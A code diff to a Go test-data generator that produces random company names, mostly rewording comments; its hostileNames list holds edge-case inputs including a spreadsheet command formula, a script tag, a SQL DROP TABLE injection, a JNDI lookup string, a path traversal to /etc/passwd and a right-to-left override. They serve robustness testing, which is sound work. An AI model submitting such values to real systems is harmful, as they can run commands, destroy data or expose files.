@@ -13,11 +13,11 @@ type region struct {
 	trades   []string
 	towns    []string
 	forms    []string
-	patterns []string // F family, G another family, T trade, P town, L legal form
+	patterns []string // F: family, G: another family, T: trade, P: town, L: legal form
 }
 
-// regions returns the sources of ordinary names. The words are common; firms of
-// such names may exist, none is meant.
+// regions returns the sources of ordinary names. The words are common. Any
+// resemblance to an existing firm is accidental.
 func regions() []region {
 	return append([]region{english(), german(), french(), nordic(), iberian(), eastern()}, scripts()...)
 }
@@ -119,8 +119,8 @@ func eastern() region {
 	}
 }
 
-// name returns a random name. In a pattern each capital stands for a part, except
-// in words with lower-case letters and in "LLP".
+// name returns a random name. Each capital letter in a pattern is replaced by a
+// part, except in words with lower-case letters and in "LLP".
 func (r region) name(dice *rand.Rand) string {
 	var b []byte
 	for i, word := range strings.Fields(pick(dice, r.patterns)) {
@@ -138,7 +138,7 @@ func (r region) name(dice *rand.Rand) string {
 	return string(b)
 }
 
-// part returns a random part for a letter of a pattern.
+// part returns a random part for a letter in a pattern.
 func (r region) part(dice *rand.Rand, c rune) string {
 	switch c {
 	case 'F', 'G':
@@ -157,7 +157,7 @@ func pick[T any](dice *rand.Rand, from []T) T { return from[dice.IntN(len(from))
 
 func words(s string) []string { return strings.Fields(s) }
 
-// phrases splits at bars and trims blanks and line ends.
+// phrases splits a string at bars and trims spaces and line breaks.
 func phrases(s string) []string {
 	list := strings.Split(s, "|")
 	for i := range list {
@@ -166,8 +166,8 @@ func phrases(s string) []string {
 	return list
 }
 
-// scripts returns the regions that do not write Latin letters, each with names in
-// one script.
+// scripts returns the regions that do not use the Latin script. The names of
+// each region use one script.
 func scripts() []region {
 	return []region{
 		{
@@ -213,21 +213,21 @@ func scripts() []region {
 	}
 }
 
-// hostileNames returns names that break careless programs. Every seed with room
-// for them contains all. A person could have typed, pasted or imported each of
-// them.
+// hostileNames returns names that break careless programs. A person could have
+// typed, pasted or imported each of them. Every seed that is large enough
+// contains all of them.
 func hostileNames() []string {
 	long := "The Worshipful Amalgamated Society of " + strings.Repeat("Carpenters, Joiners, Turners and ", 7) + "Allied Trades of Great Britain & Ireland Ltd"
 	return []string{
-		// Composed and decomposed letters: they look the same.
+		// Composed and decomposed letters, which look the same.
 		"Caf\u00e9 Ren\u00e9e Ltd", "Cafe\u0301 Rene\u0301e Ltd",
 		"Å Å ngström Instruments AB", "A\u030a \u212b ngstro\u0308m Instruments AB",
-		// The same name twice, and names that differ in case only.
+		// A name that occurs twice, and names that differ only in case.
 		"Northgate Dental Practice", "Northgate Dental Practice",
 		"Smith & Co", "SMITH & CO", "Smith & Co.",
 		"İstanbul Lojistik A.Ş.", "istanbul lojistik a.ş.",
 		"Straße & Weg GmbH", "STRASSE & WEG GMBH",
-		// Blanks and invisible characters.
+		// Spaces and invisible characters.
 		"  Leading Blanks Ltd", "Trailing Blanks Ltd  ", "Two  Blanks  Ltd", "Tab\tIn The Middle Ltd",
 		"No\u00a0Break Ltd", "Zero\u200bWidth Ltd", "\ufeffByte Order Mark Ltd", "Line\nBreak Ltd",
 		// Quotes, backslashes, markup, formulas, SQL, templates, paths.
@@ -235,13 +235,14 @@ func hostileNames() []string {
 		"<b>Bold</b> Marketing Ltd", "<script>alert(1)</script> Web Design", "R&amp;D Services Ltd", "P&L <Finance> Ltd",
 		`=cmd|'/c calc'!A1`, "=1+1 Consulting", "+44 Telecoms Ltd", "-Minus Zero Ltd", "@Home Care Ltd", "=HYPERLINK(\"http://example.invalid\",\"Invoices\")",
 		"Robert'); DROP TABLE clients;--", "100% Cotton_Mill Ltd", "{{.Name}} Ltd", "${jndi:ldap://example.invalid/a}", "../../etc/passwd Ltd", "A, B; C Ltd",
-		// Words that programs give a meaning.
+		// Words with a meaning to programs.
 		"null", "NULL Ltd", "None", "true", "0", "42", "1e3 Ltd", "12.0", "NaN Bakery", "undefined",
-		// Scripts, directions, emoji of several code points, letters outside the first plane.
+		// Other scripts, right-to-left text, emoji of several code points,
+		// letters outside the first plane.
 		"東京ソフトウェア株式会社", "上海东方贸易有限公司", "شركة النور للتجارة ش.م.م", `חברת החשמל בע"מ`, "ООО «Ромашка»", "ไทยเทคโนโลยี จำกัด", "हिन्दी सेवा प्रा. लि.",
 		"\u202eevil\u202c Ltd", "🍕 Pizza Palace 🍕", "👩\u200d👩\u200d👧\u200d👦 Family Law", "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f Scottish Salmon", "𝒮𝒸𝓇𝒾𝓅𝓉 Ltd", "𠮷野家ホールディングス",
 		"Zalgo Z\u0335\u0321a\u0334\u0322l\u0336g\u0335o\u0337 Ltd",
-		// Length.
+		// Very long and very short names.
 		long, strings.Repeat("界", 255), "X", "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch Parish Council",
 	}
 }
